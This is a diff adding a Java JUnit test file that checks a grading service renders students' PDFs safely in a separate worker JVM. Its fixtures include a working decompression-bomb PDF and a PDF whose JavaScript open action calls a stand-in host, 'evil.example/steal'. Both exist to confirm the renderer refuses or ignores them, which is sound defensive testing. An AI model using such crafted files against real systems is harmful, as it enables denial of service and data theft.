@@ -1,0 +1,145 @@
+package org.lectern.grading.pdf;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import java.io.ByteArrayInputStream;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.OutputStream;
+import java.time.Duration;
+import java.util.List;
+import java.util.Random;
+import java.util.zip.DeflaterOutputStream;
+import javax.imageio.ImageIO;
+import org.apache.pdfbox.cos.COSName;
+import org.apache.pdfbox.cos.COSStream;
+import org.apache.pdfbox.pdmodel.PDDocument;
+import org.apache.pdfbox.pdmodel.PDPage;
+import org.apache.pdfbox.pdmodel.PDPageContentStream;
+import org.apache.pdfbox.pdmodel.common.PDRectangle;
+import org.apache.pdfbox.pdmodel.common.PDStream;
+import org.apache.pdfbox.pdmodel.font.PDType1Font;
+import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
+import org.apache.pdfbox.pdmodel.graphics.image.PDImageXObject;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
+import org.junit.jupiter.api.Test;
+import org.lectern.grading.model.WorkerLauncher;
+
+/** Students' PDFs are hostile: each kind of bad PDF is refused in words by a worker JVM, and the test JVM lives on. */
+class PdfPagesTest {
+
+    static final PdfPages PAGES = new PdfPages(WorkerLauncher.currentJvm(PdfPagesProcess.class), PdfPages.Limits.defaults());
+
+    static byte[] pdf(int pages, PDRectangle size) throws IOException {
+        try (PDDocument doc = new PDDocument()) {
+            for (int i = 1; i <= pages; i++) {
+                PDPage page = new PDPage(size);
+                doc.addPage(page);
+                try (PDPageContentStream c = new PDPageContentStream(doc, page)) {
+                    c.beginText();
+                    c.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 24);
+                    c.newLineAtOffset(72, size.getHeight() - 100);
+                    c.showText("Question " + i + ": dL/dW = X^T (P - Y)");
+                    c.endText();
+                }
+            }
+            return save(doc);
+        }
+    }
+
+    static byte[] save(PDDocument doc) throws IOException {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        doc.save(out);
+        return out.toByteArray();
+    }
+
+    @Test
+    void everyPageBecomesAPngAtTheSetResolution() throws Exception {
+        List<byte[]> pages = PAGES.render(pdf(3, PDRectangle.LETTER));
+        assertThat(pages).hasSize(3);
+        var first = ImageIO.read(new ByteArrayInputStream(pages.getFirst()));
+        assertThat(first.getWidth()).isEqualTo(935); // 8.5 in at 110 DPI
+        assertThat(first.getHeight()).isEqualTo(1210);
+    }
+
+    @Test
+    void tooManyPagesNotAPdfGarbageAndPasswordsAreRefusedInWords() throws Exception {
+        assertThatThrownBy(() -> PAGES.render(pdf(61, PDRectangle.A6))).isInstanceOf(PdfPages.Refused.class)
+                .hasMessage("The PDF has 61 pages; at most 60 are taken.");
+        assertThatThrownBy(() -> PAGES.render("GIF89a not a pdf".getBytes())).isInstanceOf(PdfPages.Refused.class)
+                .hasMessageContaining("not a PDF");
+        byte[] garbage = new byte[200_000];
+        new Random(7).nextBytes(garbage);
+        System.arraycopy("%PDF-1.7\n".getBytes(), 0, garbage, 0, 9);
+        assertThatThrownBy(() -> PAGES.render(garbage)).isInstanceOf(PdfPages.Refused.class);
+        byte[] locked;
+        try (PDDocument doc = new PDDocument()) {
+            doc.addPage(new PDPage());
+            var policy = new org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy("owner", "secret",
+                    new org.apache.pdfbox.pdmodel.encryption.AccessPermission());
+            doc.protect(policy);
+            locked = save(doc);
+        }
+        assertThatThrownBy(() -> PAGES.render(locked)).isInstanceOf(PdfPages.Refused.class).hasMessageContaining("password");
+    }
+
+    /** An 8000×8000 image compressed to a few hundred KB: drawing it needs far more than the worker's heap. */
+    @Test
+    void aDecompressionBombKillsOnlyTheWorker() throws Exception {
+        byte[] bomb;
+        try (PDDocument doc = new PDDocument()) {
+            PDPage page = new PDPage(PDRectangle.LETTER);
+            doc.addPage(page);
+            COSStream s = doc.getDocument().createCOSStream();
+            try (OutputStream raw = s.createRawOutputStream(); DeflaterOutputStream z = new DeflaterOutputStream(raw)) {
+                byte[] row = new byte[8000 * 3];
+                for (int i = 0; i < 8000; i++) {
+                    z.write(row);
+                }
+            }
+            s.setItem(COSName.FILTER, COSName.FLATE_DECODE);
+            s.setItem(COSName.TYPE, COSName.XOBJECT);
+            s.setItem(COSName.SUBTYPE, COSName.IMAGE);
+            s.setInt(COSName.WIDTH, 8000);
+            s.setInt(COSName.HEIGHT, 8000);
+            s.setInt(COSName.BITS_PER_COMPONENT, 8);
+            s.setItem(COSName.COLORSPACE, COSName.DEVICERGB);
+            try (PDPageContentStream c = new PDPageContentStream(doc, page)) {
+                c.drawImage(new PDImageXObject(new PDStream(s), null), 0, 0, 612, 792);
+            }
+            bomb = save(doc);
+        }
+        assertThat(bomb.length).isLessThan(1_000_000);
+        var small = new PdfPages(WorkerLauncher.currentJvm(PdfPagesProcess.class), new PdfPages.Limits(110, 60, 6_000_000L, 96,
+                Duration.ofSeconds(60)));
+        assertThatThrownBy(() -> small.render(bomb)).isInstanceOf(PdfPages.Refused.class).hasMessageContaining("within the limits");
+        // This JVM is fine and the next student's PDF renders.
+        assertThat(small.render(pdf(1, PDRectangle.LETTER))).hasSize(1);
+    }
+
+    @Test
+    void aHugePageIsDrawnSmallerAndSlowWorkIsKilled() throws Exception {
+        // 200 × 200 inches: 22000² pixels at 110 DPI; drawn at the pixel cap instead.
+        List<byte[]> pages = PAGES.render(pdf(1, new PDRectangle(14400, 14400)));
+        var image = ImageIO.read(new ByteArrayInputStream(pages.getFirst()));
+        assertThat((long) image.getWidth() * image.getHeight()).isLessThanOrEqualTo(6_000_000L);
+        var hasty = new PdfPages(WorkerLauncher.currentJvm(PdfPagesProcess.class), new PdfPages.Limits(110, 60, 6_000_000L, 384,
+                Duration.ofMillis(50)));
+        assertThatThrownBy(() -> hasty.render(pdf(1, PDRectangle.LETTER))).isInstanceOf(PdfPages.Refused.class)
+                .hasMessageContaining("took too long");
+    }
+
+    /** JavaScript in a PDF is never run: only the page's drawing becomes pixels. */
+    @Test
+    void javaScriptIsNotRun() throws Exception {
+        byte[] withScript;
+        try (PDDocument doc = new PDDocument()) {
+            doc.addPage(new PDPage());
+            doc.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.launchURL('http://evil.example/steal');"));
+            withScript = save(doc);
+        }
+        assertThat(PAGES.render(withScript)).singleElement()
+                .satisfies(png -> assertThat(new String(png, 1, 3, java.nio.charset.StandardCharsets.US_ASCII)).isEqualTo("PNG"));
+    }
+}
